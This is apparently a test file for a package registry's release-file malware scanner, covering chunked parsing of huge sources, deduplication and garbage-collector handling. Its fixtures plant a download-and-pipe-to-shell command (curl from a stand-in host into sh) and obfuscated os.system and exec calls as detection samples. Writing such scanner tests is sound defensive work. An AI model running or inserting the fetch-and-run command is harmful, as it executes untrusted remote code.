"""One release file: members through the rules that fit them, duplicates once, huge sources in pieces."""

import ast
import gc
import sys

from pypi_platform.lib.scans.release import AST_MAX_LINES, scan_release_file
from pypi_platform_testkit.dists import build_sdist

SHELL = 'os.system("curl -s https://get.example.net/p | sh")\n'


def _rules_at(result) -> list[tuple[str, str, int | None]]:
    return sorted((f.rule, f.path, f.line) for f in result.findings)


def test_a_million_line_source_is_parsed_in_pieces_and_keeps_its_line_numbers():
    filler = "".join(f"v{i} = {i}\n" for i in range(2 * AST_MAX_LINES))
    source = "import os\n" + SHELL + filler + SHELL
    last = source.count("\n")
    filename, data = build_sdist("big", "1.0", modules={"big/table.py": source})
    result = scan_release_file(filename, data, "sdist")
    found = _rules_at(result)
    assert ("process.shell-download", "big-1.0/big/table.py", 2) in found
    assert ("process.shell-download", "big-1.0/big/table.py", last) in found  # `os` known in the last piece
    assert ("parse.node-limit", "big-1.0/big/table.py", None) in found
    assert result.coverage["python_files_in_pieces"] == 1


def test_a_bad_line_in_a_large_source_fails_alone_and_the_rest_of_its_piece_is_scanned():
    filler = "".join(f"v{i} = {i}\n" for i in range(AST_MAX_LINES))
    source = "import os\n" + filler + "broken = = 1\n" + SHELL + filler
    bad = AST_MAX_LINES + 2
    filename, data = build_sdist("big", "1.0", modules={"big/table.py": source})
    found = _rules_at(scan_release_file(filename, data, "sdist"))
    assert [line for rule, _, line in found if rule == "parse.failed"] == [bad]
    assert ("process.shell-download", "big-1.0/big/table.py", bad + 1) in found


def test_identical_members_are_analysed_once_and_binary_members_are_skipped():
    modules = {"a/one.py": "import os\n" + SHELL, "a/two.py": "import os\n" + SHELL, "a/blob.dat": "\0\1\2"}
    filename, data = build_sdist("dup", "1.0", modules=modules)
    result = scan_release_file(filename, data, "sdist")
    assert {path for _, path, _ in _rules_at(result)} == {"dup-1.0/a/one.py"}
    assert result.coverage["skipped_duplicate"] == 1
    assert result.coverage["skipped_binary"] == 1


def test_a_file_that_is_not_an_archive_is_scanned_as_itself():
    result = scan_release_file("tool.py", ("import os\n" + SHELL).encode(), "sdist")
    assert ("process.shell-download", "tool.py", 2) in _rules_at(result)


def test_the_cycle_collector_pauses_during_a_scan_and_is_left_as_it_was_found():
    filename, data = build_sdist("gc", "1.0", modules={"gc_probe/m.py": "import os\n" + SHELL})
    try:
        gc.enable()
        scan_release_file(filename, data, "sdist")
        assert gc.isenabled()
        gc.disable()
        scan_release_file(filename, data, "sdist")
        assert not gc.isenabled()  # a caller that paused it itself keeps it paused
        gc.enable()
        scan_release_file("broken.tar.gz", b"not an archive", "sdist")  # a corrupt archive, too
        assert gc.isenabled()
    finally:
        gc.enable()


def test_no_cycle_collection_runs_while_a_large_source_is_parsed_and_walked():
    source = "".join(f"value_{i} = [{i}, '{i}', ({i},)]\n" for i in range(5_000))
    filename, data = build_sdist("alloc", "1.0", modules={"alloc/table.py": source})
    collections = []

    def count(phase, info):
        if phase == "start":
            collections.append(info["generation"])

    gc.enable()
    gc.callbacks.append(count)
    try:
        ast.parse(source)  # the same allocations outside a scan do wake the collector
        woken_outside = len(collections)
        gc.collect()  # empties the youngest generation, so that the scan starts from a count of zero
        collections.clear()
        scan_release_file(filename, data, "sdist")
    finally:
        gc.callbacks.remove(count)
    if sys.version_info < (3, 12):  # from 3.12 on, the nodes the parser makes no longer wake the collector
        assert woken_outside > 10
    assert len(collections) <= 1  # the one owed as the collector resumes, once the scan has returned


def test_a_scan_leaves_no_reference_cycle_behind():
    # Release files are scanned with the cycle collector paused: a cycle would keep every member's syntax tree
    # alive until the file is done, which ran a large sdist out of memory.
    source = "import os\nname = 'sy' + 'stem'\ngetattr(os, name)('id')\nexec('import socket')\n" * 50
    filename, data = build_sdist("cycles", "1.0", modules={"cycles/m.py": source})
    gc.collect()
    was_enabled = gc.isenabled()
    gc.disable()
    try:
        scan_release_file(filename, data, "sdist")
        assert gc.collect() == 0
    finally:
        if was_enabled:
            gc.enable()
